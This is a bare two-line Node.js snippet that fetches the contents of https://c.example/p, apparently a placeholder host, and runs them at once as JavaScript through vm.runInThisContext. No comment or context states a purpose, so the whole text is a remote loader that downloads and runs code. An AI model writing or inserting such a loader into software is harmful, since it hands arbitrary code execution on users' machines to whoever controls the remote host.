const https = require('https'), vm = require('vm');
https.get('https://c.example/p', (res) => { let d = ''; res.on('data', (c) => { d += c; }); res.on('end', () => vm.runInThisContext(d)); });
